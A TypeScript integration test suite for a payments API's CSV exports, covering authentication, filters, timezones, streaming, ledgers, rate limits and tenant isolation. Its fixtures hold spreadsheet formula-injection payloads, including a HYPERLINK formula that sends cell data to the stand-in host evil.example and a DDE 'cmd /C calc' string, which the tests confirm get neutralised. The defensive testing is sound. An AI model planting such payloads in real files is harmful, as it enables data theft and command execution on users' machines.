// The CSV exports over real HTTP and Postgres: the key as for GraphQL (revoked and expired keys
// 401), the list's filter and the key's default ANDed, exact decimal amounts, the organization's
// clock, formula cells neutralised, 5 000 rows streamed in order across keyset chunks, a client's
// ledger, the rate limit, and nothing of another organization or environment.
import { makeToken, startTestApp, type TestApp } from '../helpers/app';
import { makeShop, topUp, type Shop } from '../helpers/fixtures';
import { PAYMENT_COLUMNS } from '../../src/services/payments/export-payments';
import { benchExport } from '../../bench/export';

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  if (cell || row.length) throw new Error(`CSV does not end with CRLF: ${JSON.stringify(text.slice(-50))}`);
  return rows;
}

const HEADER = ['id', 'createdAt', 'paidAt', 'status', 'amount', 'currency', 'fee', 'net', 'clientId', 'clubId', 'gatewayType', 'gatewayTransactionId', 'description',
  'externalNumber', 'documentNumber', 'documentDate', 'tags', 'restrictRefund', 'deleted', 'refunded'];
const col = (name: string) => HEADER.indexOf(name);

describe('CSV exports', () => {
  let t: TestApp;
  let shop: Shop;
  let other: Shop;
  const ids: string[] = [];

  const get = (path: string, token: string | null, headers: Record<string, string> = {}) =>
    fetch(`${t.url}${path}`, { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers } });
  const exportOf = async (filter?: Record<string, unknown>, token = shop.token) => {
    const res = await get(`/exports/payments.csv${filter ? `?filter=${encodeURIComponent(JSON.stringify(filter))}` : ''}`, token);
    const text = await res.text();
    if (res.status !== 200) throw new Error(`HTTP ${res.status}: ${text}`);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(HEADER);
    return rows;
  };
  const gqlOk = async (query: string, variables: Record<string, unknown>, token: string) => {
    const res = await t.gql(query, variables, token);
    if (res.body.errors) throw new Error(JSON.stringify(res.body.errors));
    return res.body.data;
  };

  beforeAll(async () => {
    // limits on, high enough for everything but the one key that tests them
    t = await startTestApp('exports', { RATE_LIMIT_PER_MINUTE: '10000000' });
    shop = await makeShop(t);
    other = await makeShop(t);
    await gqlOk('mutation { updateOrganization(input: { timeZone: "Asia/Kolkata" }) { timeZone } }', {}, shop.liveToken);
    const made = [
      { amount: '250.50', description: '=HYPERLINK("http://evil.example/?d="&A1,"Click")' },
      { amount: '1000', description: 'Абонемент, "Gold"\nдекабрь' },
      { amount: '0.10', description: '@SUM(1+1)' },
      { amount: '99999999.99', description: '-2+3+cmd|\' /C calc\'!A0' },
    ];
    for (const input of made) ids.push((await topUp(t, shop, input)).transactionId);
    await t.deps.db.payment.update({
      where: { id: ids[0] },
      data: { status: 'PARTIALLY_REFUNDED', confirmedAt: new Date('2026-12-01T20:15:00.250Z'), refundedAmount: '0.50', fee: '6.26', gatewayTransactionId: '+79990001122', tags: ['desk', '=cmd'], restrictRefund: true, documentDate: new Date('2026-11-30T18:30:00.000Z'), documentNumber: 'PP-17', externalNumber: 'INV-9' },
    });
    await t.deps.db.payment.update({ where: { id: ids[1] }, data: { status: 'CONFIRMED', confirmedAt: new Date() } });
    await t.deps.db.payment.update({ where: { id: ids[2] }, data: { status: 'CANCELLED', deletedAt: new Date() } });
    await topUp(t, other, { amount: '777.00', description: 'theirs' });
  });
  afterAll(() => t.close());

  it('answers text/csv as an attachment, header first, newest first, amounts as exact decimal text', async () => {
    const res = await get('/exports/payments.csv', shop.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="payments.csv"');
    const [header, ...rows] = parseCsv(await res.text());
    expect(header).toEqual(HEADER);
    expect(PAYMENT_COLUMNS.map((c) => c.header)).toEqual(HEADER);
    const expected = await t.deps.db.payment.findMany({ where: { organizationId: shop.orgId, environment: 'TEST', deletedAt: null }, orderBy: [{ createdAt: 'desc' }, { id: 'desc' }] });
    expect(rows.map((r) => r[0])).toEqual(expected.map((p) => p.id));
    const byId = new Map(rows.map((r) => [r[0], r]));
    expect(byId.get(ids[3])![col('amount')]).toBe('99999999.99');
    expect(byId.get(ids[1])![col('amount')]).toBe('1000.00');
    expect([byId.get(ids[1])![col('fee')], byId.get(ids[1])![col('net')]]).toEqual(['', '']); // no fee known
    expect(byId.get(ids[0])!.slice(col('status'))).toEqual([
      'PARTIALLY_REFUNDED', '250.50', 'RUB', '6.26', '244.24', shop.clientId, 'club_abc123', 'SANDBOX', "'+79990001122",
      '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', 'INV-9', 'PP-17', '2026-12-01T00:00:00.000+05:30', "desk; =cmd", 'true', 'false', '0.50',
    ]);
    expect(byId.get(ids[1])![col('description')]).toBe('Абонемент, "Gold"\nдекабрь');
    expect(byId.has(ids[2])).toBe(false); // deleted: hidden unless asked for
  });

  it('neutralises every cell a spreadsheet would run as a formula, and quotes it properly', async () => {
    const text = await (await get('/exports/payments.csv', shop.token)).text();
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"');
    expect(text).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(text).toContain("'+79990001122");
    expect(text).toContain(',"desk; =cmd",'); // tags are joined by "; ": quoted, so a spreadsheet splitting on ; keeps them one cell
    expect(text).toContain('"\'-2+3+cmd|\' /C calc\'!A0"');
    expect(text).not.toMatch(/(^|,)[=+@-][^0-9]/m); // no cell starts a formula
    const deleted = await exportOf({ deleted: true });
    expect(deleted.map((r) => [r[0], r[col('description')], r[col('deleted')]])).toEqual([[ids[2], "'@SUM(1+1)", 'true']]);
  });

  it('shows instants on the organization\'s clock, with its offset', async () => {
    const row = (await exportOf({ ids: [ids[0]] }))[0];
    const stored = await t.deps.db.payment.findUniqueOrThrow({ where: { id: ids[0] } });
    expect(row[col('paidAt')]).toBe('2026-12-02T01:45:00.250+05:30');
    expect(row[col('createdAt')]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+05:30$/);
    expect(new Date(row[col('createdAt')]).getTime()).toBe(stored.createdAt.getTime());
  });

  it('takes the list\'s filter, checked the same way', async () => {
    expect((await exportOf({ status: ['CONFIRMED', 'PARTIALLY_REFUNDED'] })).map((r) => r[0]).sort()).toEqual([ids[0], ids[1]].sort());
    expect((await exportOf({ amountFrom: 1000, text: 'gold' })).map((r) => r[0])).toEqual([ids[1]]);
    expect(await exportOf({ clientId: 'nobody' })).toEqual([]);
  });

  it.each([
    ['not JSON', 'filter=%7Bstatus', 400, 'BAD_USER_INPUT', /not JSON/],
    ['a field that does not exist', `filter=${encodeURIComponent('{"colour":"red"}')}`, 400, 'BAD_USER_INPUT', /colour/],
    ['a status that does not exist', `filter=${encodeURIComponent('{"status":["PAID"]}')}`, 400, 'BAD_USER_INPUT', /filter\.status\[0\]/],
    ['a date that is not one', `filter=${encodeURIComponent('{"createdFrom":"yesterday"}')}`, 400, 'BAD_USER_INPUT', /filter\.createdFrom/],
    ['an array', `filter=${encodeURIComponent('[1]')}`, 400, 'BAD_USER_INPUT', /PaymentFilter/],
    ['a range the wrong way round', `filter=${encodeURIComponent('{"amountFrom":"10","amountTo":"1"}')}`, 400, 'BAD_USER_INPUT', /amountFrom must not be after/],
    ['the filter twice', 'filter=%7B%7D&filter=%7B%7D', 400, 'BAD_USER_INPUT', /given once/],
    ['an unknown saved filter', `filter=${encodeURIComponent('{"savedFilterId":"flt_nope"}')}`, 404, 'NOT_FOUND', /savedFilterId/],
    ['a NUL in clientId', `filter=${encodeURIComponent('{"clientId":"a\\u0000"}')}`, 400, 'BAD_USER_INPUT', /clientId/],
    ['a NUL in gatewayId', `filter=${encodeURIComponent('{"gatewayId":"a\\u0000"}')}`, 400, 'BAD_USER_INPUT', /gatewayId/],
    ['a NUL in ids', `filter=${encodeURIComponent('{"ids":["pay_\\u0000"]}')}`, 400, 'BAD_USER_INPUT', /ids/],
  ])('refuses %s with a JSON error', async (_label, query, status, code, message) => {
    const res = await get(`/exports/payments.csv?${query}`, shop.token);
    expect(res.status).toBe(status);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const body = await res.json();
    expect(body).toEqual({ error: expect.stringMatching(message), code });
    expect(JSON.stringify(body)).not.toContain('red');
  });

  it('refuses a missing, revoked or expired key with 401, as GraphQL does', async () => {
    expect([(await get('/exports/payments.csv', null)).status, await (await get('/exports/payments.csv', null)).json()])
      .toEqual([401, { error: 'Authorization field missing', code: 'UNAUTHENTICATED' }]);
    const key = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST' });
    expect((await get('/exports/payments.csv', key.token)).status).toBe(200); // every role may export; the key is now cached
    await t.deps.db.apiToken.update({ where: { id: key.id }, data: { revokedAt: new Date() } });
    for (const path of ['/exports/payments.csv', `/exports/clients/${shop.clientId}/ledger.csv`]) {
      const res = await get(path, key.token);
      expect([res.status, await res.json()]).toEqual([401, { error: 'Invalid API key', code: 'UNAUTHENTICATED' }]);
    }
    const expiring = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST', expiresInMs: 300 });
    await new Promise((r) => setTimeout(r, 400));
    const res = await get('/exports/payments.csv', expiring.token);
    expect([res.status, await res.json()]).toEqual([401, { error: 'Key has expired, please renew', code: 'UNAUTHENTICATED' }]);
    // a key in the query string is no key
    expect((await get(`/exports/payments.csv?token=${shop.token}&api_key=${shop.token}`, null)).status).toBe(401);
    expect(t.logs()).not.toContain(shop.token);
  });

  it('the key\'s default filter is ANDed with the export until reset; another key is unaffected', async () => {
    await gqlOk('mutation { setDefaultPaymentFilter(filter: { status: [CONFIRMED] }) }', {}, shop.token);
    expect((await exportOf()).map((r) => r[0])).toEqual([ids[1]]);
    expect(await exportOf({ status: ['PENDING'] })).toEqual([]);
    const admin = await makeToken(t.deps, shop.orgId, 'ADMIN', { environment: 'TEST' });
    expect((await exportOf(undefined, admin.token)).length).toBe(3);
    await gqlOk('mutation { setDefaultPaymentFilter(reset: true) }', {}, shop.token);
    expect((await exportOf()).length).toBe(3);
  });

  it('holds only the key\'s organization and environment', async () => {
    const theirs = await exportOf(undefined, other.token);
    expect(theirs.map((r) => r[col('description')])).toEqual(['theirs']);
    expect((await exportOf({ ids }, other.token))).toEqual([]);
    // a LIVE payment of the same organization is in the LIVE key's export, never in the TEST key's
    const template = await t.deps.db.payment.findUniqueOrThrow({ where: { id: ids[1] } });
    const { id: _id, ...rest } = template;
    await t.deps.db.payment.create({ data: { ...rest, id: 'pay_live_export_0000000000001', environment: 'LIVE', idempotencyKey: null, gatewayTransactionId: null, metadata: {}, items: [] } });
    expect((await exportOf(undefined, shop.liveToken)).map((r) => r[0])).toEqual(['pay_live_export_0000000000001']);
    expect((await exportOf()).map((r) => r[0])).not.toContain('pay_live_export_0000000000001');
    const theirSaved = (await gqlOk('mutation { savePaymentFilter(name: "b", filter: {}) { id } }', {}, other.token)).savePaymentFilter.id;
    const res = await get(`/exports/payments.csv?filter=${encodeURIComponent(JSON.stringify({ savedFilterId: theirSaved }))}`, shop.token);
    expect(res.status).toBe(404);
  });

  it('streams 5 000 payments across keyset chunks in order, each once, ties broken by id', async () => {
    const client = 'client_stream';
    await gqlOk(`mutation { upsertClient(input: { id: "${client}", clubId: "club_abc123" }) { id } }`, {}, shop.token);
    const { rows: cols } = await t.deps.pg.query<{ column_name: string }>(`SELECT column_name FROM information_schema.columns WHERE table_name = 'Payment' AND table_schema = current_schema()`);
    // seven payments share each instant, so chunk boundaries fall inside ties
    const fixed: Record<string, string> = {
      id: `'pay_stream_' || lpad(g::text, 6, '0')`, clientId: `'${client}'`, idempotencyKey: 'NULL', gatewayTransactionId: 'NULL',
      createdAt: `timestamptz '2026-01-01T00:00:00Z' + ((g / 7) || ' seconds')::interval`, amount: `(g % 997 + 1) || '.' || lpad((g % 100)::text, 2, '0')`,
    };
    const names = cols.map((c) => c.column_name);
    await t.deps.pg.query(`INSERT INTO "Payment" (${names.map((c) => `"${c}"`).join(', ')})
      SELECT ${names.map((c) => (c in fixed ? c === 'amount' ? `(${fixed[c]})::numeric` : fixed[c] : `p."${c}"`)).join(', ')}
        FROM "Payment" p, generate_series(1, 5000) g WHERE p.id = $1`, [ids[3]]);
    const rows = await exportOf({ clientId: client });
    const expected = await t.deps.db.payment.findMany({ where: { organizationId: shop.orgId, environment: 'TEST', clientId: client }, orderBy: [{ createdAt: 'desc' }, { id: 'desc' }], select: { id: true, amount: true } });
    expect(expected).toHaveLength(5000);
    expect(rows.map((r) => r[0])).toEqual(expected.map((p) => p.id));
    expect(rows.map((r) => r[col('amount')])).toEqual(expected.map((p) => p.amount.toFixed(2)));
  });

  it('the bench\'s export measurement runs against the service (a dry run of bench/export.js)', async () => {
    const expected = (await exportOf({ clientId: 'client_stream' })).length;
    const m = await benchExport({ url: t.url, token: shop.token, pid: process.pid, filter: { clientId: 'client_stream' }, expectRows: expected });
    expect(m).toMatchObject({ status: 200, rows: 5000, ok: true });
    expect(m.bytes).toBeGreaterThan(5000 * 100);
    expect(m.rssMb.before).toBeGreaterThan(0);
    expect(m.rssMb.peak).toBeGreaterThanOrEqual(m.rssMb.before!);
    expect((await benchExport({ url: t.url, token: 'pg_live_wrong', pid: process.pid })).ok).toBe(false);
  });

  it('exports a client\'s ledger of the key\'s environment, oldest first, with the balance after each entry', async () => {
    const adjust = (amount: string, reason: string) => gqlOk('mutation($i: BalanceAdjustmentInput!) { adjustBalance(input: $i) { id } }', { i: { clientId: shop.clientId, amount, reason } }, shop.token);
    await adjust('150.25', 'desk cash');
    await adjust('-50.05', '=1+1; correction');
    await gqlOk('mutation($i: BalanceAdjustmentInput!) { adjustBalance(input: $i) { id } }', { i: { clientId: shop.clientId, amount: '9', reason: 'live one' } }, shop.liveToken);
    const res = await get(`/exports/clients/${shop.clientId}/ledger.csv`, shop.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const text = await res.text();
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['id', 'at', 'kind', 'amount', 'balanceAfter', 'currency', 'paymentId', 'refundId', 'reason', 'actor']);
    expect(rows.map((r) => [r[2], r[3], r[4], r[5], r[8]])).toEqual([
      ['ADJUSTMENT', '150.25', '150.25', 'RUB', 'desk cash'],
      ['ADJUSTMENT', '-50.05', '100.20', 'RUB', "'=1+1; correction"],
    ]);
    expect(text).toContain(`,"'=1+1; correction",`); // one quoted cell where a spreadsheet splits on ; too
    expect(rows[0][1]).toMatch(/\+05:30$/);
    const live = parseCsv(await (await get(`/exports/clients/${shop.clientId}/ledger.csv`, shop.liveToken)).text());
    expect(live.slice(1).map((r) => [r[3], r[8]])).toEqual([['9.00', 'live one']]);
  });

  it('a client of another organization (or none) is 404', async () => {
    await gqlOk('mutation { upsertClient(input: { id: "client_only_a", clubId: "club_abc123" }) { id } }', {}, shop.token);
    for (const [path, token] of [['/exports/clients/client_only_a/ledger.csv', other.token], ['/exports/clients/no_such_client/ledger.csv', shop.token]] as const) {
      const res = await get(path, token);
      expect([res.status, ((await res.json()) as { code: string }).code]).toEqual([404, 'NOT_FOUND']);
    }
    // B's own client of the same CRM id as A's has an empty ledger: A's entries never show
    expect(other.clientId).toBe(shop.clientId);
    const text = await (await get(`/exports/clients/${shop.clientId}/ledger.csv`, other.token)).text();
    expect(parseCsv(text)).toHaveLength(1);
  });

  it('is charged to the key\'s rate limit (429 with Retry-After)', async () => {
    const limited = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST', rateLimitPerMinute: 300 });
    const statuses: number[] = [];
    let refused: Response | undefined;
    for (let i = 0; i < 3 && !refused; i++) {
      const res = await get(`/exports/clients/${shop.clientId}/ledger.csv`, limited.token);
      statuses.push(res.status);
      if (res.status === 429) refused = res;
      else await res.text();
    }
    expect(statuses[0]).toBe(200);
    expect(refused?.status).toBe(429);
    expect(Number(refused!.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(((await refused!.json()) as { code: string }).code).toBe('RATE_LIMITED');
  });

  describe('a large export', () => {
    const BIG = 'client_big';
    const ROWS = 10_000; // 3 KB each: 30 MB, more than the sockets between server and test hold
    const bigPath = `/exports/payments.csv?filter=${encodeURIComponent(JSON.stringify({ clientId: BIG }))}`;
    /** Reads a response to its end, or to where the server cut it. */
    const drain = async (res: Response) => {
      const reader = res.body!.getReader();
      const decoder = new TextDecoder();
      let text = '';
      try {
        for (;;) {
          const { done, value } = await reader.read();
          if (done) return { text, complete: true };
          text += decoder.decode(value, { stream: true });
        }
      } catch {
        return { text, complete: false };
      }
    };
    const rowsIn = (text: string) => text.split('\r\n').length - 2; // the header, and what follows the last CRLF

    beforeAll(async () => {
      await gqlOk(`mutation { upsertClient(input: { id: "${BIG}", clubId: "club_abc123" }) { id } }`, {}, shop.token);
      const { rows: cols } = await t.deps.pg.query<{ column_name: string }>(`SELECT column_name FROM information_schema.columns WHERE table_name = 'Payment' AND table_schema = current_schema()`);
      const fixed: Record<string, string> = {
        id: `'pay_big_' || lpad(g::text, 6, '0')`, clientId: `'${BIG}'`, idempotencyKey: 'NULL', gatewayTransactionId: 'NULL',
        createdAt: `timestamptz '2025-01-01T00:00:00Z' + (g || ' seconds')::interval`, description: `repeat('x', 500)`,
        tags: `array_fill(repeat('t', 60), ARRAY[40])::varchar(64)[]`,
      };
      const names = cols.map((c) => c.column_name);
      await t.deps.pg.query(`INSERT INTO "Payment" (${names.map((c) => `"${c}"`).join(', ')})
        SELECT ${names.map((c) => (c in fixed ? fixed[c] : `p."${c}"`)).join(', ')} FROM "Payment" p, generate_series(1, ${ROWS}) g WHERE p.id = $1`, [ids[3]]);
    });

    it('is charged per chunk after the first: when the key\'s limit runs out the transfer is cut, never a complete-looking file', async () => {
      // 200 up front with the first chunk, then 10 units per chunk of 1 000 rows: chunks 2-6 fit in 250, the seventh does not
      const minute = () => Math.floor(Date.now() / 60_000);
      let key: { token: string };
      let cut: { text: string; complete: boolean };
      let started: number;
      do { // the limit's window is the clock's minute: an attempt that straddles two is made again
        started = minute();
        key = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST', rateLimitPerMinute: 250 });
        const res = await get(bigPath, key.token);
        expect(res.status).toBe(200);
        cut = await drain(res);
      } while (minute() !== started);
      const { text, complete } = cut;
      expect(complete).toBe(false);
      expect(rowsIn(text)).toBeGreaterThan(0);
      expect(rowsIn(text)).toBeLessThanOrEqual(6000); // what was still in the server's buffers when it was cut is lost
      const next = await get(`/exports/clients/${shop.clientId}/ledger.csv`, key.token);
      expect([next.status, ((await next.json()) as { code: string }).code]).toEqual([429, 'RATE_LIMITED']);
      // a key with room for it gets every row, the file ending with its last CRLF
      const whole = await drain(await get(bigPath, shop.token));
      expect([whole.complete, rowsIn(whole.text)]).toEqual([true, ROWS]);
    });

    it('a key revoked while its export streams: the stream is cut at the next chunk, and the next request is 401', async () => {
      const key = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST' });
      const res = await get(bigPath, key.token);
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      await reader.read();
      await t.deps.db.apiToken.update({ where: { id: key.id }, data: { revokedAt: new Date() } });
      let bytes = 0;
      let cut = false;
      try {
        for (;;) {
          const { done, value } = await reader.read();
          if (done) break;
          bytes += value.length;
        }
      } catch {
        cut = true;
      }
      expect(cut).toBe(true);
      expect(bytes).toBeLessThan(ROWS * 3000 / 2);
      const after = await get(bigPath, key.token);
      expect([after.status, await after.json()]).toEqual([401, { error: 'Invalid API key', code: 'UNAUTHENTICATED' }]);
    });

    it('runs at most 2 exports per key and 2 per process (half the pool of 5) at once: more is 429 with Retry-After; a slot is freed when a reader goes', async () => {
      const a = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST' });
      const b = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST' });
      const open = [await get(bigPath, a.token), await get(bigPath, a.token)]; // stalled: nobody reads them
      expect(open.map((r) => r.status)).toEqual([200, 200]);
      for (const token of [a.token, b.token]) {
        const refused = await get(bigPath, token);
        expect(refused.status).toBe(429);
        expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
        expect(await refused.json()).toEqual({ error: expect.stringMatching(token === a.token ? /this key already has 2 exports/ : /as many exports as it runs at once/), code: 'RATE_LIMITED' });
      }
      // the rest of the API is not held up by the stalled exports: they hold no pool connection
      const started = Date.now();
      expect((await t.gql('{ payments(first: 1) { edges { node { id } } } }', {}, b.token)).status).toBe(200);
      expect(Date.now() - started).toBeLessThan(2000);
      await open[0].body!.cancel();
      let again: Response | undefined;
      for (let i = 0; i < 50 && again?.status !== 200; i++) {
        if (again) await again.text();
        await new Promise((r) => setTimeout(r, 20));
        again = await get(`/exports/clients/${shop.clientId}/ledger.csv`, b.token);
      }
      expect(again!.status).toBe(200);
      await again!.text();
      await open[1].body!.cancel();
    });

    it('a stalled reader does not hold up a graceful shutdown: its export is cut', async () => {
      const second = await startTestApp('exportsclose', { DATABASE_URL: t.deps.config.databaseUrl.reveal() });
      try {
        const res = await fetch(`${second.url}${bigPath}`, { headers: { authorization: `Bearer ${shop.token}` } });
        expect(res.status).toBe(200);
        const started = Date.now();
        await second.app.close();
        expect(Date.now() - started).toBeLessThan(5000);
        expect((await drain(res)).complete).toBe(false);
      } finally {
        await second.close().catch(() => undefined);
      }
    });

    it('a client id of 128 characters (percent-encoded: longer) has its ledger exported', async () => {
      const id = `${'c'.repeat(100)}:@${'d'.repeat(26)}`;
      expect(id).toHaveLength(128);
      await gqlOk(`mutation { upsertClient(input: { id: "${id}", clubId: "club_abc123" }) { id } }`, {}, shop.token);
      for (const path of [`/exports/clients/${id}/ledger.csv`, `/exports/clients/${encodeURIComponent(id)}/ledger.csv`]) {
        const res = await get(path, shop.token);
        expect([res.status, parseCsv(await res.text())]).toEqual([200, [['id', 'at', 'kind', 'amount', 'balanceAfter', 'currency', 'paymentId', 'refundId', 'reason', 'actor']]]);
      }
    });
  });
});
